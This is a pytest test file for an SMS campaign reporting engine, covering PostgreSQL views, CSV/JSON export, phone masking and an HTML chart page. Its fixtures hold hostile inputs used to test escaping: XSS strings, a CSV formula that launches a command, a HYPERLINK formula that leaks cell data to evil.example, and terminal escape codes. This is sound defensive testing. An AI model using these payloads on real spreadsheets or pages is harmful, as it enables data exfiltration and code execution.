"""Analyst reports on a real PostgreSQL: the views, engine report / export, the chart page.

The database is filled with a realistic run built here with known values (every status,
multi-part messages, late receipts, messages never delivered, receipts that came without
a send time), and every figure is computed again in Python from those values.
"""

from __future__ import annotations

import csv
import io
import math
import os
import random
import statistics
import sys
import tracemalloc
from bisect import bisect_right
from collections import Counter
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from html import escape
from itertools import pairwise
from pathlib import Path
from typing import Any

import asyncpg
import orjson
import pytest

from engine import report_charts, report_output, report_page, reports
from engine.phones import mask
from engine.queries import QUERIES
from engine.reports import ReportError
from engine.status import SKIP_STATUSES, MessageStatus

T0 = datetime(2026, 3, 1, 9, 0, tzinfo=UTC)
ACCEPTED_STATUSES = {"sent", "delivered", "read", "undelivered"}
FAILURE_STATUSES = {"undelivered", "failed", "expired", "unknown", "cancelled"} | {
    s.value for s in SKIP_STATUSES
}
PRICE = {"zc-main": Decimal("0.1500"), "zc-backup": Decimal("0.2100")}
COLUMNS = (
    "run_id",
    "phone",
    "account",
    "status",
    "segments",
    "cost",
    "sent_at",
    "delivered_at",
    "read_at",
    "failed_at",
    "error_code",
    "error_detail",
    "provider_message_id",
    "encoding",
    "body",
)
#: how many messages of the main run take each status
PLAN = {
    "delivered": 300,
    "read": 40,
    "sent": 40,
    "undelivered": 40,
    "failed": 40,
    "expired": 15,
    "unknown": 15,
    "cancelled": 10,
    "queued": 20,
    "sending": 5,
    "suppressed": 30,
    "invalid_number": 15,
    "render_error": 10,
    "too_long": 10,
    "frequency_capped": 10,
}
SKIP_CODES = {
    "suppressed": "suppressed",
    "invalid_number": "invalid_number",
    "render_error": "render_error",
    "too_long": "too_long",
    "frequency_capped": "frequency_cap",
}
XSS = "<script>alert('x')</script>"


@dataclass
class World:
    """The runs built for a test, and the main run's messages as inserted."""

    main: int
    older: int
    test_send: int
    winter: int
    rows: list[dict[str, Any]] = field(default_factory=list)


def phone_for(i: int, status: str) -> str:
    if status == "invalid_number":
        return (f"082 123 {i}", f"+27 (82) 555-{i:04d}", f"n/a-{i}")[i % 3]
    prefixes = ("+2782", "+1415", "+4477", "+35387", "+88017", "+2783")
    return f"{prefixes[i % len(prefixes)]}{1000000 + i:07d}"


def latency(rnd: random.Random, i: int) -> float:
    """Seconds to delivery: mostly seconds, every 12th a late receipt (hours to days)."""
    if i % 12 == 0:
        return rnd.uniform(2 * 3600, 3 * 86400)
    return round(rnd.expovariate(1 / 4) + 0.3, 6)


def message(rnd: random.Random, i: int, k: int, status: str, run_id: int) -> dict[str, Any]:
    """The ``k``-th message in ``status`` (the ``i``-th of its run), with the times and
    codes the engine would give it."""
    account = "zc-backup" if i % 4 == 0 else "zc-main"
    segments = 3 if i % 10 == 0 else 2 if i % 5 == 0 else 1
    skipped = status in SKIP_CODES
    row: dict[str, Any] = dict.fromkeys(COLUMNS)
    row.update(
        run_id=run_id,
        phone=phone_for(i, status),
        account=account,
        status=status,
        encoding="GSM-7",
        body=None if skipped else f"Hi {i}, 20% off today",
        segments=None if skipped else segments,
        cost=None if skipped else PRICE[account] * segments,
    )
    sent = T0 + timedelta(seconds=rnd.uniform(0, 3600))
    # who has a send time: what the provider accepted, half the failures (rejected by
    # a receipt after acceptance), a third of the unknowns (settled late), one expiry
    if (
        status in ACCEPTED_STATUSES
        or (status == "failed" and k % 2 == 0)
        or (status == "unknown" and k % 3 == 0)
        or (status == "expired" and k == 1)
    ):
        row["sent_at"] = sent
        row["provider_message_id"] = f"pm-{run_id}-{i}"
    if status == "delivered" and k % 97 == 5:
        row["sent_at"] = None  # a receipt settled a send whose result was lost
    if status in ("delivered", "read") and not (status == "read" and k % 20 == 3):
        row["delivered_at"] = (row["sent_at"] or sent) + timedelta(seconds=latency(rnd, i))
    if status == "read":
        row["read_at"] = (row["delivered_at"] or sent) + timedelta(seconds=rnd.uniform(5, 900))
    if status in ("undelivered", "failed", "expired"):
        row["failed_at"] = sent + timedelta(seconds=rnd.uniform(1, 600))
    row["error_code"], row["error_detail"] = failure(k, status)
    return row


def failure(k: int, status: str) -> tuple[str | None, str | None]:
    if status in SKIP_CODES:
        return SKIP_CODES[status], f"{status} detail {k % 3}"
    if status == "undelivered":
        return ("ABSENT", "BARRED")[k % 2], f"handset unreachable ({k % 5})"
    if status == "failed":
        if k == 9:
            return "XSS1", XSS
        return (
            ("21614", "not a mobile number"),
            ("21211", "invalid 'To' number"),
            (None, "connection reset by the provider"),
        )[k % 3]
    if status == "expired":
        return "expired", "not sent within its validity"
    if status == "unknown":
        return "lease_expired", "the dispatcher d1 stopped before recording the send"
    return None, None


def realistic(run_id: int, seed: int = 11) -> list[dict[str, Any]]:
    """The main run: every status of PLAN, in a shuffled order."""
    rnd = random.Random(seed)
    statuses = [s for s, n in PLAN.items() for _ in range(n)]
    rnd.shuffle(statuses)
    seen: Counter[str] = Counter()
    rows = []
    for i, status in enumerate(statuses):
        rows.append(message(rnd, i, seen[status], status, run_id))
        seen[status] += 1
    return rows


def plain(run_id: int, count: int, start: int, seed: int) -> list[dict[str, Any]]:
    rnd = random.Random(seed)
    return [message(rnd, start + i, i, "delivered", run_id) for i in range(count)]


async def insert_messages(conn: asyncpg.Connection, rows: list[dict[str, Any]]) -> None:
    await conn.copy_records_to_table(
        "messages", columns=COLUMNS, records=[tuple(r[c] for c in COLUMNS) for r in rows]
    )


async def add_campaign(conn: asyncpg.Connection, name: str) -> int:
    campaign_id: int = await conn.fetchval(
        "INSERT INTO campaigns (name, spec, spec_hash) VALUES ($1, '{}', 'x') RETURNING id", name
    )
    return campaign_id


async def add_run(
    conn: asyncpg.Connection,
    campaign_id: int,
    at: datetime,
    *,
    kind: str = "scheduled",
    status: str = "completed",
    recipients: int | None = None,
    counts: dict[str, int] | None = None,
) -> int:
    run_id: int = await conn.fetchval(
        "INSERT INTO campaign_runs (campaign_id, scheduled_for, kind, status, recipients, counts)"
        " VALUES ($1, $2, $3, $4, $5, $6) RETURNING id",
        campaign_id,
        at,
        kind,
        status,
        recipients,
        counts or {},
    )
    return run_id


async def build_world(conn: asyncpg.Connection) -> World:
    """spring-sale (an older run, the main run, a newer test send), winter (one run), and
    empty (no runs)."""
    spring = await add_campaign(conn, "spring-sale")
    older = await add_run(conn, spring, T0 - timedelta(days=7))
    main = await add_run(conn, spring, T0, recipients=sum(PLAN.values()), counts={"duplicate": 7})
    test_send = await add_run(conn, spring, T0 + timedelta(hours=2), kind="test")
    winter = await add_run(conn, await add_campaign(conn, "winter"), T0 - timedelta(days=30))
    await add_campaign(conn, "empty")
    rows = realistic(main)
    await insert_messages(
        conn,
        rows
        + plain(older, 20, 5000, 2)
        + plain(test_send, 1, 6000, 3)
        + plain(winter, 30, 7000, 4),
    )
    return World(main, older, test_send, winter, rows)


@pytest.fixture
async def world(conn: asyncpg.Connection) -> World:
    return await build_world(conn)


# --- what the figures should be, computed from the rows ----------------------------------


def percentile_cont(values: list[float], p: float) -> float:
    """PostgreSQL's percentile_cont: linear interpolation between the closest ranks."""
    ordered = sorted(values)
    position = p * (len(ordered) - 1)
    low, high = math.floor(position), math.ceil(position)
    return ordered[low] + (ordered[high] - ordered[low]) * (position - low)


def is_accepted(row: dict[str, Any]) -> bool:
    return row["sent_at"] is not None or row["status"] in ACCEPTED_STATUSES


def latencies(rows: list[dict[str, Any]]) -> list[float]:
    return [
        (r["delivered_at"] - r["sent_at"]).total_seconds()
        for r in rows
        if r["delivered_at"] is not None and r["sent_at"] is not None
    ]


def expected_outcome(rows: list[dict[str, Any]]) -> dict[str, Any]:
    counts = Counter(r["status"] for r in rows)
    accepted = [r for r in rows if is_accepted(r)]
    delivered = counts["delivered"] + counts["read"]
    cost = sum((r["cost"] for r in accepted), Decimal(0))
    seconds = latencies(rows)
    return {
        **{s.value: counts[s.value] for s in MessageStatus if s != MessageStatus.DUPLICATE},
        "recipients": len(rows),
        "duplicate": 7,
        "accepted": len(accepted),
        "delivery_rate": round(Decimal(delivered) / len(accepted), 4),
        "cost": cost,
        "cost_per_delivered": round(cost / delivered, 4),
        "median_delivery_seconds": percentile_cont(seconds, 0.5),
        "p95_delivery_seconds": percentile_cont(seconds, 0.95),
    }


def approx(value: float) -> Any:
    return pytest.approx(value, rel=1e-9, abs=1e-6)


# --- the views ------------------------------------------------------------------------------


async def test_campaign_outcomes_counts_rate_cost_and_latency(
    conn: asyncpg.Connection, world: World
) -> None:
    row = dict(await conn.fetchrow("SELECT * FROM campaign_outcomes WHERE run_id = $1", world.main))
    expected = expected_outcome(world.rows)
    seconds = latencies(world.rows)
    # the test data has what it claims: late receipts, multi-part messages, oddities
    assert max(seconds) > 86400 and min(seconds) < 5
    assert {r["segments"] for r in world.rows} >= {1, 2, 3}
    assert expected["accepted"] != sum(1 for r in world.rows if r["sent_at"] is not None)
    # the percentiles agree with Python's own (inclusive quantiles interpolate the same way)
    assert statistics.median(seconds) == approx(expected["median_delivery_seconds"])
    assert statistics.quantiles(seconds, n=20, method="inclusive")[18] == approx(
        expected["p95_delivery_seconds"]
    )
    for key in ("median_delivery_seconds", "p95_delivery_seconds"):
        assert row.pop(key) == approx(expected.pop(key)), key
    assert {k: row[k] for k in expected} == expected
    assert (row["campaign"], row["kind"], row["run_status"]) == (
        "spring-sale",
        "scheduled",
        "completed",
    )
    assert row["scheduled_for"] == T0


async def test_campaign_outcomes_has_one_row_per_run_even_without_messages(
    conn: asyncpg.Connection, world: World
) -> None:
    campaign_id = await conn.fetchval("SELECT id FROM campaigns WHERE name = 'empty'")
    due = await add_run(conn, campaign_id, T0 + timedelta(days=1), status="scheduled")
    rows = await conn.fetch("SELECT * FROM campaign_outcomes ORDER BY run_id")
    assert [r["run_id"] for r in rows] == sorted(
        [world.main, world.older, world.test_send, world.winter, due]
    )
    empty = next(r for r in rows if r["run_id"] == due)
    assert empty["recipients"] == 0 and empty["queued"] == 0 and empty["accepted"] == 0
    assert empty["cost"] == 0
    assert empty["delivery_rate"] is None and empty["cost_per_delivered"] is None
    assert empty["median_delivery_seconds"] is None and empty["p95_delivery_seconds"] is None
    older = next(r for r in rows if r["run_id"] == world.older)
    assert (older["recipients"], older["delivered"], older["delivery_rate"]) == (20, 20, 1)


async def test_message_outcomes_one_row_per_message(conn: asyncpg.Connection, world: World) -> None:
    rows = await conn.fetch("SELECT * FROM message_outcomes WHERE run_id = $1", world.main)
    assert len(rows) == len(world.rows)
    by_phone = {r["phone"]: r for r in rows}
    for want in world.rows:
        got = by_phone[want["phone"]]
        assert got["phone_masked"] == mask(want["phone"])
        for key in (
            "account",
            "status",
            "segments",
            "cost",
            "sent_at",
            "delivered_at",
            "read_at",
            "failed_at",
            "error_code",
            "error_detail",
            "provider_message_id",
        ):
            assert got[key] == want[key], key
        if want["sent_at"] and want["delivered_at"]:
            seconds = (want["delivered_at"] - want["sent_at"]).total_seconds()
            assert got["delivery_seconds"] == approx(seconds)
        else:
            assert got["delivery_seconds"] is None
    assert {r["campaign"] for r in rows} == {"spring-sale"}
    assert {r["run_kind"] for r in rows} == {"scheduled"}
    assert await conn.fetchval("SELECT count(*) FROM message_outcomes") == len(world.rows) + 51


async def test_failure_reasons_counts_by_run_account_status_and_code(
    conn: asyncpg.Connection, world: World
) -> None:
    rows = await conn.fetch("SELECT * FROM failure_reasons WHERE run_id = $1", world.main)
    groups: dict[tuple[Any, ...], list[dict[str, Any]]] = {}
    for r in world.rows:
        if r["status"] in FAILURE_STATUSES:
            groups.setdefault((r["status"], r["account"], r["error_code"]), []).append(r)
    got = {(r["status"], r["account"], r["error_code"]): r for r in rows}
    assert set(got) == set(groups)
    for key, members in groups.items():
        assert got[key]["messages"] == len(members), key
        assert got[key]["sample_detail"] in {m["error_detail"] for m in members}, key
        assert got[key]["skipped"] is (key[0] in SKIP_CODES)
        assert got[key]["campaign"] == "spring-sale"
    assert any(code is None for _, _, code in got)  # a NULL code still finds its sample
    assert sum(r["messages"] for r in rows) == sum(len(m) for m in groups.values())


async def test_mask_phone_matches_engine_mask(conn: asyncpg.Connection) -> None:
    rnd = random.Random(5)
    numbers = [
        "",
        "+",
        "+1",
        "+12",
        "+123",
        "+1234",
        "+27821234567",
        "+27 82 123 4567",
        "+(27) 82-123-4567",
        "+ ( 2 7 8",
        "+0712345678",
        "+00",
        "0821234567",
        "tel:+27821234567",
        "++27821234567",
        "+44 (0)20 7946 0958",
        "no number",
    ]
    numbers += [f"+{code}123456789" for code in range(1000)]  # every country code length
    numbers += [f"+{code}12" for code in range(1000)]
    alphabet = "0123456789" * 3 + " -()+x.a"
    for _ in range(3000):
        text = "".join(rnd.choice(alphabet) for _ in range(rnd.randint(0, 16)))
        numbers.append(("+" if rnd.random() < 0.6 else "") + text)
    rows = await conn.fetch(
        "SELECT n, mask_phone(n) AS masked FROM unnest($1::text[]) AS n", numbers
    )
    mismatches = [(r["n"], r["masked"], mask(r["n"])) for r in rows if r["masked"] != mask(r["n"])]
    assert mismatches == []
    assert await conn.fetchval("SELECT mask_phone(NULL)") is None


async def test_views_read_through_the_report_indexes(
    conn: asyncpg.Connection, world: World
) -> None:
    """On a table this small PostgreSQL would read everything; told to avoid that, the
    plans show that the partial indexes' predicates match the views' conditions."""
    await conn.execute("VACUUM ANALYZE messages")
    async with conn.transaction():
        await conn.execute("SET LOCAL enable_seqscan = off")
        await conn.execute("SET LOCAL enable_bitmapscan = off")
        outcome = await _plan(conn, "SELECT * FROM campaign_outcomes WHERE run_id = $1", world.main)
        failures = await _plan(conn, "SELECT * FROM failure_reasons WHERE run_id = $1", world.main)
        export = await _plan(
            conn,
            "SELECT * FROM message_outcomes WHERE run_id = ANY($1) ORDER BY run_id, phone",
            [world.main],
        )
    assert "Index Only Scan using messages_run_accepted" in outcome
    assert "Index Only Scan using messages_run_status" in outcome
    assert "Index Only Scan using messages_run_failures" in failures
    # the export filters messages themselves (not the runs they join), so an index is used
    assert "Index Cond: (run_id = ANY (" in export and "Seq Scan on messages" not in export


async def _plan(conn: asyncpg.Connection, query: str, *args: Any) -> str:
    rows = await conn.fetch(f"EXPLAIN {query}", *args)
    return "\n".join(r[0] for r in rows)


# --- engine report --------------------------------------------------------------------------


async def test_report_without_name_shows_each_campaigns_latest_run(
    conn: asyncpg.Connection, world: World
) -> None:
    report = await reports.runs_report(conn)
    runs = report.table("runs").dicts()
    # spring-sale's newest run is a test send: the report prefers its latest real run
    assert [(r["campaign"], r["run_id"]) for r in runs] == [
        ("spring-sale", world.main),
        ("winter", world.winter),
    ]
    assert runs[0]["accepted"] == expected_outcome(world.rows)["accepted"]


async def test_report_of_a_campaign_lists_its_runs_newest_first(
    conn: asyncpg.Connection, world: World
) -> None:
    report = await reports.runs_report(conn, "spring-sale")
    runs = report.table("runs").dicts()
    assert [r["run_id"] for r in runs] == [world.test_send, world.main, world.older]
    assert [r["kind"] for r in runs] == ["test", "scheduled", "scheduled"]
    assert report.title == "runs of spring-sale"


async def test_report_of_a_run_has_statuses_failures_and_latency(
    conn: asyncpg.Connection, world: World
) -> None:
    report = await reports.runs_report(conn, "spring-sale", world.main)
    expected = expected_outcome(world.rows)
    summary = report.table("run").dicts()[0]
    assert summary["accepted"] == expected["accepted"]
    assert summary["delivery_rate"] == expected["delivery_rate"]
    statuses = {r["status"]: r["messages"] for r in report.table("statuses").dicts()}
    assert statuses == {**PLAN, "duplicate": 7}
    failures = report.table("failures").dicts()
    assert len(failures) == reports.FAILURES_LIMIT
    assert [f["messages"] for f in failures] == sorted(
        (f["messages"] for f in failures), reverse=True
    )
    assert failures[0]["messages"] == max(
        Counter(
            (r["status"], r["account"], r["error_code"])
            for r in world.rows
            if r["status"] in FAILURE_STATUSES
        ).values()
    )
    seconds = latencies(world.rows)
    latency = report.table("latency").dicts()[0]
    assert latency["delivered"] == len(seconds)
    for key, p in (("median", 0.5), ("p90", 0.9), ("p95", 0.95), ("p99", 0.99)):
        assert latency[key] == approx(percentile_cont(seconds, p)), key
    assert latency["min"] == approx(min(seconds)) and latency["max"] == approx(max(seconds))
    assert latency["mean"] == approx(statistics.fmean(seconds))


async def test_report_of_a_campaign_with_one_run_is_that_runs_detail(
    conn: asyncpg.Connection, world: World
) -> None:
    report = await reports.runs_report(conn, "winter")
    assert [t.name for t in report.tables] == ["run", "statuses", "failures", "latency", "accounts"]
    assert report.table("run").dicts()[0]["run_id"] == world.winter
    assert report.table("failures").rows == ()


async def test_report_errors_name_what_is_missing(conn: asyncpg.Connection, world: World) -> None:
    with pytest.raises(ReportError, match="no campaign named 'nope'"):
        await reports.runs_report(conn, "nope")
    with pytest.raises(ReportError, match="no run 999999"):
        await reports.runs_report(conn, None, 999999)
    with pytest.raises(ReportError, match=f"run {world.winter} belongs to campaign 'winter'"):
        await reports.runs_report(conn, "spring-sale", world.winter)
    report = await reports.runs_report(conn, "empty")
    assert report.table("runs").rows == ()
    assert "(none)" in report_output.render(report, "table")


async def test_render_table_csv_and_json(conn: asyncpg.Connection, world: World) -> None:
    report = await reports.runs_report(conn, None, world.main)
    expected = expected_outcome(world.rows)

    text = report_output.render(report, "table")
    lines = text.splitlines()
    assert lines[0] == f"spring-sale: run {world.main}"
    assert any(line.split() == ["accepted", f"{expected['accepted']:,}"] for line in lines)
    header = next(line for line in lines if line.startswith("status  ") and "messages" in line)
    row = next(line for line in lines[lines.index(header) :] if line.startswith("delivered "))
    assert row.index("300") == header.index("messages")  # aligned under its heading

    blocks = report_output.render(report, "csv").split("\n\n")
    assert len(blocks) == 5
    # sends, outcomes and cost per account, in the analyst's own arithmetic
    per_account = {r["account"]: r for r in csv.DictReader(io.StringIO(blocks[4]))}
    for account in {r["account"] for r in world.rows}:
        mine = [r for r in world.rows if r["account"] == account]
        accepted = [r for r in mine if is_accepted(r)]
        assert int(per_account[account]["accepted"]) == len(accepted)
        assert Decimal(per_account[account]["cost"]) == sum(
            (r["cost"] for r in accepted), Decimal(0)
        )
    summary = list(csv.DictReader(io.StringIO(blocks[0])))
    assert len(summary) == 1 and int(summary[0]["accepted"]) == expected["accepted"]
    assert Decimal(summary[0]["cost"]) == expected["cost"]
    statuses = list(csv.DictReader(io.StringIO(blocks[1])))
    assert {r["status"]: int(r["messages"]) for r in statuses}["read"] == PLAN["read"]

    document = orjson.loads(report_output.render(report, "json"))
    assert document["title"] == f"spring-sale: run {world.main}"
    run = document["tables"]["run"]
    assert run["accepted"] == expected["accepted"]
    assert run["cost"] == pytest.approx(float(expected["cost"]))
    assert run["scheduled_for"] == T0.isoformat()
    assert len(document["tables"]["failures"]) == reports.FAILURES_LIMIT

    listing = report_output.render(await reports.runs_report(conn), "csv")
    rows = list(csv.DictReader(io.StringIO(listing)))
    assert [r["campaign"] for r in rows] == ["spring-sale", "winter"]
    assert "median_delivery_seconds" in rows[0]  # CSV carries every column of the view
    with pytest.raises(ValueError, match="unknown report format"):
        report_output.render(report, "xml")  # type: ignore[arg-type]


# --- engine export --------------------------------------------------------------------------


async def test_export_writes_one_row_per_message(
    conn: asyncpg.Connection, world: World, tmp_path: Path
) -> None:
    out = tmp_path / "main.csv"
    count = await reports.export_csv(conn, "spring-sale", world.main, out)
    assert count == len(world.rows)
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    assert len(rows) == count
    assert list(rows[0])[:8] == [
        "campaign",
        "run_id",
        "run_kind",
        "scheduled_for",
        "message_id",
        "contact_id",
        "phone",
        "phone_masked",
    ]
    by_phone = {r["phone"]: r for r in rows}
    for want in world.rows:
        got = by_phone[want["phone"]]
        assert got["status"] == want["status"]
        assert got["phone_masked"] == mask(want["phone"])
        assert got["cost"] == ("" if want["cost"] is None else str(want["cost"]))
        assert got["error_detail"] == (want["error_detail"] or "")
        assert (datetime.fromisoformat(got["sent_at"]) if got["sent_at"] else None) == (
            want["sent_at"]
        )
    ordered = await conn.fetch(
        "SELECT phone FROM messages WHERE run_id = $1 ORDER BY phone", world.main
    )
    assert [r["phone"] for r in rows] == [r["phone"] for r in ordered]  # by run, then number
    assert not (tmp_path / "main.csv.part").exists()

    everything = tmp_path / "all.csv"
    assert await reports.export_csv(conn, "spring-sale", None, everything) == len(world.rows) + 21
    masked = tmp_path / "masked.csv"
    assert await reports.export_csv(conn, "spring-sale", world.main, masked, masked=True) == count
    header = masked.read_text().splitlines()[0].split(",")
    assert "phone" not in header and "phone_masked" in header
    text = masked.read_text()
    assert not [r["phone"] for r in world.rows if r["phone"].startswith("+") and r["phone"] in text]


async def test_export_streams_instead_of_holding_the_rows(
    conn: asyncpg.Connection, world: World, tmp_path: Path
) -> None:
    await conn.execute(
        "INSERT INTO messages (run_id, phone, account, status, body, segments, cost, sent_at,"
        " delivered_at)"
        " SELECT $1, '+4477' || lpad(g::text, 8, '0'), 'zc-main', 'delivered',"
        "        repeat('a long body to make each row wide ', 4), 2, 0.3, $2::timestamptz,"
        "        $2::timestamptz + g * interval '1 ms'"
        "   FROM generate_series(1, 80000) g",
        world.older,
        T0,
    )
    out = tmp_path / "big.csv"
    tracemalloc.start()
    try:
        count = await reports.export_csv(conn, "spring-sale", world.older, out)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert count == 80020
    assert out.stat().st_size > 15_000_000
    assert peak < out.stat().st_size / 5  # a few COPY buffers, never the file


async def test_export_errors(conn: asyncpg.Connection, world: World, tmp_path: Path) -> None:
    with pytest.raises(ReportError, match="no campaign named 'nope'"):
        await reports.export_csv(conn, "nope", None, tmp_path / "x.csv")
    with pytest.raises(ReportError, match="belongs to campaign 'winter'"):
        await reports.export_csv(conn, "spring-sale", world.winter, tmp_path / "x.csv")
    with pytest.raises(ReportError, match="cannot write"):
        await reports.export_csv(conn, "winter", None, tmp_path / "missing" / "x.csv")
    assert list(tmp_path.iterdir()) == []


# --- the chart page -----------------------------------------------------------------------


async def test_report_page_draws_the_run(conn: asyncpg.Connection, world: World) -> None:
    html = await reports.report_html(conn, "spring-sale")  # the latest real run by default
    assert f"run {world.main} of 3" in html
    for chart in ("funnel-chart", "timeline-chart", "latency-chart", "failures-chart"):
        assert f'id="{chart}"' in html
    # self-contained: nothing to fetch
    assert "http://" not in html and "https://" not in html
    assert "<link" not in html and "src=" not in html
    # provider text is escaped, never markup: the page's own script is its only one
    assert html.count("<script") == 1


async def test_report_page_data(conn: asyncpg.Connection, world: World) -> None:
    accepted = Counter(r["status"] for r in world.rows if is_accepted(r))
    outcome = await conn.fetchrow("SELECT * FROM campaign_outcomes WHERE run_id = $1", world.main)
    steps = report_charts.funnel(outcome, accepted)
    skipped = sum(PLAN[s] for s in SKIP_CODES)
    assert [(s.label, s.messages) for s in steps] == [
        ("recipients", len(world.rows)),
        ("queued", len(world.rows) - skipped),
        ("sent", sum(accepted.values())),
        ("delivered", PLAN["delivered"] + PLAN["read"]),
        ("read", PLAN["read"]),
    ]
    for before, after in pairwise(steps):
        assert before.messages - after.messages == sum(n for _, n in after.losses), after
    assert dict(steps[1].losses) == {s: PLAN[s] for s in SKIP_CODES}
    assert dict(steps[3].losses)["awaiting a receipt"] == PLAN["sent"]

    assert report_charts.timeline([]) is None
    rows = await _timeline_rows(conn, world.main)
    line = report_charts.timeline(rows)
    assert line is not None
    sums = {s.name: sum(s.counts) for s in line.series}
    assert sums == {
        "sent": sum(1 for r in world.rows if r["sent_at"]),
        "delivered": sum(1 for r in world.rows if r["delivered_at"]),
        "read": sum(1 for r in world.rows if r["read_at"]),
        "failed": sum(1 for r in world.rows if r["failed_at"]),
    }
    # three days of late receipts: minutes merged into at most TIMELINE_BUCKETS buckets
    assert len(line.series[0].counts) <= report_charts.TIMELINE_BUCKETS
    assert line.bucket > timedelta(minutes=1)

    # width_bucket's bin is the number of edges at or below the value
    expected = Counter(bisect_right(report_charts.LATENCY_EDGES, s) for s in latencies(world.rows))
    page = await reports.report_html(conn, "spring-sale", world.main)
    histogram = report_charts.histogram(expected)
    assert sum(n for _, n in histogram) == len(latencies(world.rows))
    for label, n in histogram:
        if n:
            assert escape(f"{label}: {n:,} (") in page, label


async def _timeline_rows(conn: asyncpg.Connection, run_id: int) -> list[asyncpg.Record]:
    rows: list[asyncpg.Record] = await conn.fetch(QUERIES["report_timeline"], run_id)
    return rows


async def test_report_page_of_a_campaign_without_runs(
    conn: asyncpg.Connection, world: World
) -> None:
    html = await reports.report_html(conn, "empty")
    assert "has not run yet" in html and "<svg" not in html
    campaign_id = await conn.fetchval("SELECT id FROM campaigns WHERE name = 'empty'")
    await add_run(conn, campaign_id, T0, status="scheduled")
    html = await reports.report_html(conn, "empty")
    for empty in ("No recipients", "Nothing sent yet", "No delivery receipts yet", "No failures"):
        assert empty in html
    with pytest.raises(ReportError, match="no campaign named"):
        await reports.report_html(conn, "nope")


def test_page_escapes_what_comes_from_the_database() -> None:
    hostile = "<b onmouseover=alert(1)>x</b>"
    data = report_charts.PageData(
        campaign=hostile,
        run_id=1,
        runs=1,
        generated_at=T0,
        summary=(("run status", hostile),),
        statuses=((hostile, 3),),
        funnel=(
            report_charts.Step("recipients", 3),
            report_charts.Step("queued", 2, ((hostile, 1),)),
        ),
        failures=(report_charts.Reason("failed", hostile, hostile, 2, False, XSS),),
    )
    html = report_page.render_page(data)
    assert "<b " not in html and XSS not in html and html.count("<script") == 1
    assert "&lt;b onmouseover=alert(1)&gt;" in html
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in html


async def test_a_report_inside_the_callers_transaction(
    conn: asyncpg.Connection, world: World
) -> None:
    async with conn.transaction():
        report = await reports.runs_report(conn, "winter")
        html = await reports.report_html(conn, "winter")
    assert report.table("run").dicts()[0]["run_id"] == world.winter
    assert 'id="funnel-chart"' in html


# --- a million messages (opt-in: ENGINE_BENCH=1) --------------------------------------------

#: a run of $3 messages in realistic proportions: 80% delivered, 3% read, 3% awaiting a
#: receipt, 4% undelivered, 3% failed (half after acceptance), ..., 2% suppressed, ...
MILLION = """
INSERT INTO messages (run_id, phone, account, segments, cost, status, sent_at, delivered_at,
                      read_at, failed_at, error_code, error_detail, provider_message_id)
SELECT $1, '+2782' || lpad(g::text, 8, '0'),
       CASE WHEN g % 3 = 0 THEN 'zc-backup' ELSE 'zc-main' END, seg, seg * 0.25, st::message_status,
       CASE WHEN st IN ('sent', 'delivered', 'read', 'undelivered')
                 OR (st IN ('failed', 'unknown') AND g % 2 = 0) THEN t END,
       CASE WHEN st IN ('delivered', 'read') THEN t + make_interval(secs => lat) END,
       CASE WHEN st = 'read' THEN t + make_interval(secs => lat + 30) END,
       CASE WHEN st IN ('undelivered', 'failed', 'expired') THEN t + make_interval(secs => lat) END,
       CASE WHEN st IN ('undelivered', 'failed') THEN 'E' || (g % 7)
            WHEN st NOT IN ('queued', 'sending', 'sent', 'delivered', 'read') THEN st END,
       CASE WHEN st NOT IN ('queued', 'sending', 'sent', 'delivered', 'read')
            THEN 'detail ' || (g % 5) END,
       CASE WHEN st IN ('sent', 'delivered', 'read', 'undelivered') THEN 'pm-' || g END
  FROM (SELECT g, $2::timestamptz + make_interval(secs => random() * 7200) AS t,
               (1 + (g % 10 = 0)::int + (g % 50 = 0)::int)::smallint AS seg,
               -ln(1 - random()) * 4 + CASE WHEN g % 100 = 0 THEN random() * 7200 ELSE 0 END
                   AS lat,
               CASE WHEN u < .80 THEN 'delivered' WHEN u < .83 THEN 'read'
                    WHEN u < .86 THEN 'sent' WHEN u < .90 THEN 'undelivered'
                    WHEN u < .93 THEN 'failed' WHEN u < .94 THEN 'expired'
                    WHEN u < .945 THEN 'unknown' WHEN u < .965 THEN 'suppressed'
                    WHEN u < .975 THEN 'invalid_number' WHEN u < .977 THEN 'render_error'
                    WHEN u < .98 THEN 'too_long' WHEN u < .99 THEN 'frequency_capped'
                    WHEN u < .995 THEN 'queued' WHEN u < .996 THEN 'sending'
                    ELSE 'cancelled' END AS st
          FROM (SELECT g, random() AS u FROM generate_series(1, $3::int) g) draws) x
"""


@pytest.mark.skipif(
    not os.environ.get("ENGINE_BENCH"),
    reason="set ENGINE_BENCH=1 to time the views on a million-message run (about a minute)",
)
async def test_views_answer_in_under_a_second_on_a_million_messages(
    conn: asyncpg.Connection,
) -> None:
    run_id = await add_run(conn, await add_campaign(conn, "million"), T0, recipients=1_000_000)
    await conn.execute(MILLION, run_id, T0, 1_000_000)
    await conn.execute("VACUUM ANALYZE messages")  # what autovacuum does after a run
    queries = {
        "campaign_outcomes": "SELECT * FROM campaign_outcomes WHERE run_id = $1",
        "failure_reasons": "SELECT * FROM failure_reasons WHERE run_id = $1",
        "report_latency": QUERIES["report_latency"].rstrip(";"),
    }
    timings = {}
    for name, query in queries.items():
        await conn.fetch(query, run_id)  # warm the cache, as a second look would be
        # TIMING OFF: per-node clocks would add their own cost to a million-row scan
        [plan] = await conn.fetchval(f"EXPLAIN (ANALYZE, TIMING OFF, FORMAT JSON) {query}", run_id)
        timings[name] = round(plan["Execution Time"])
    print("execution ms at 1M messages:", timings)
    assert all(ms < 1000 for ms in timings.values()), timings


# --- hostile text from providers and webhooks (issue 18, break 11) --------------------------

FORMULA_CODE = "=cmd|' /C calc'!A0"
FORMULA_DETAIL = '+HYPERLINK("http://evil.example/?leak="&A1,"click")'
ANSI = "\x1b]0;owned\x07\x1b[31mred\x9b2J"


@pytest.fixture
async def hostile(conn: asyncpg.Connection, world: World) -> World:
    """Winter's first five messages failed with a provider's formula code, detail and an
    id full of escapes; the next three with a detail full of escapes."""
    failed = (
        "UPDATE messages SET status = 'failed', failed_at = sent_at, error_code = $2,"
        " error_detail = $3, provider_message_id = $4 || id"
        " WHERE id IN (SELECT id FROM messages WHERE run_id = $1 ORDER BY id OFFSET $5 LIMIT $6)"
    )
    await conn.execute(failed, world.winter, FORMULA_CODE, FORMULA_DETAIL, ANSI, 0, 5)
